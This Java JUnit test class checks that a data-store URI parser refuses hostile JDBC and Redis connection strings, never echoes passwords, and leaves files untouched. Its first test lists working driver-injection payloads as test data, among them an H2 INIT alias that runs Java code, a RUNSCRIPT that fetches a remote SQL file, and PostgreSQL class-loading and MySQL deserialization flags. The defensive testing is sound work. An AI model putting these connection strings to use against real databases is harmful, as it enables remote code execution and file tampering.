package dev.stepwise.it.hostile;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.stepwise.store.StoreException;
import dev.stepwise.store.StoreProviders;
import dev.stepwise.store.VersionedStore;
import dev.stepwise.store.file.FileStore;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Store URIs an attacker (or a careless config) might supply: each gets a clear
 * IllegalArgumentException (or StoreException) naming the problem, never a password echo, never a
 * class loaded or SQL run from the URI, and never a file changed.
 */
class HostileStoreUriTest {

    @TempDir
    Path dir;

    @Test
    void driverSettingsThatLoadClassesOrRunSqlAreRefused() {
        for (String uri : List.of(
                "jdbc:postgresql://127.0.0.1:5432/test?socketFactory=java.io.FileOutputStream&socketFactoryArg="
                        + dir.resolve("pwned"),
                "jdbc:postgresql://127.0.0.1:5432/test?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
                "jdbc:postgresql://127.0.0.1:5432/test?sslhostnameverifier=x&sslpasswordcallback=y",
                "jdbc:postgresql://127.0.0.1:5432/test?authenticationPluginClassName=x.Y",
                "jdbc:postgresql://127.0.0.1:5432/test?loggerFile=" + dir.resolve("log"),
                "jdbc:mariadb://127.0.0.1:3306/test?user=root&allowLocalInfile=true",
                "jdbc:mysql://127.0.0.1:3306/test?autoDeserialize=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://127.0.0.1:9/evil.sql'",
                "jdbc:h2:mem:x;INIT=CREATE ALIAS SHELL AS $$String s(String c) throws Exception {"
                        + " new java.io.File(\"" + dir.resolve("pwned")
                        + "\").createNewFile(); return c; }$$\\;CALL SHELL('x')",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3;INIT=SELECT 1")) {
            IllegalArgumentException e =
                    assertThrows(IllegalArgumentException.class, () -> StoreProviders.open(uri), uri);
            assertTrue(e.getMessage().contains("refused"), e.getMessage());
        }
        assertFalse(Files.exists(dir.resolve("pwned")), "no code ran");
        assertFalse(Files.exists(dir.resolve("log")), "no log file was written");
    }

    @Test
    void passwordsAreNeverEchoed() {
        for (String uri : List.of(
                "jdbc:postgresql://127.0.0.1:5432/test?user=u&password=hunter2&loggerFile=x",
                "redis://:hunter2@@127.0.0.1:6379/0/x",
                "redis://user:hunter2@[::1:6379",
                "redis://:hunter2@",
                "redis-cluster://:hunter2@",
                "redis://:hunter2%zz@127.0.0.1:1",
                "nosuch://u:hunter2@h",
                "jdbc:oracle:thin:u/hunter2@h:1521:x")) {
            RuntimeException e = assertThrows(
                    RuntimeException.class, () -> StoreProviders.open(uri).close(), uri);
            assertTrue(e instanceof IllegalArgumentException || e instanceof StoreException, uri + " -> " + e);
            for (Throwable t = e; t != null; t = t.getCause()) {
                assertFalse(String.valueOf(t.getMessage()).contains("hunter2"), uri + " leaks: " + t);
            }
        }
    }

    @Test
    void aSqliteUriOnAFileThatIsNotADatabaseFailsWithoutTouchingIt() throws Exception {
        Path passwd = dir.resolve("passwd");
        byte[] text = "root:x:0:0:root:/root:/bin/bash\n".getBytes();
        Files.write(passwd, text);
        RuntimeException e = assertThrows(RuntimeException.class, () -> StoreProviders.open("sqlite:" + passwd)
                .close());
        assertTrue(e instanceof IllegalArgumentException || e instanceof StoreException, e.toString());
        assertTrue(e.getMessage().contains("not a database") || e.getMessage().contains("passwd"), e.getMessage());
        assertArrayEquals(text, Files.readAllBytes(passwd), "the file is unchanged");
        for (String uri : List.of(
                "sqlite:" + passwd + "?journal_mode=OFF",
                "sqlite::memory:",
                "sqlite:",
                "jdbc:sqlite:file:x?mode=memory")) {
            assertThrows(
                    IllegalArgumentException.class,
                    () -> StoreProviders.open(uri).close(),
                    uri);
        }
    }

    @Test
    void aFileUriWithDotDotIsTheOperatorsDirectoryNotAnEscapeForIds() throws Exception {
        // file:../../x is a relative directory chosen by whoever configures the server: allowed, and
        // resolved once; session ids inside it are encoded and can never climb out (see HostileEngineInputTest).
        Path nested = Files.createDirectories(dir.resolve("a/b"));
        try (VersionedStore store = StoreProviders.open("file:" + nested + "/../../c")) {
            FileStore file = assertInstanceOf(FileStore.class, store);
            assertTrue(
                    file.directory().normalize().startsWith(dir),
                    file.directory().toString());
        }
        assertThrows(IllegalArgumentException.class, () -> StoreProviders.open("file:"));
    }
}
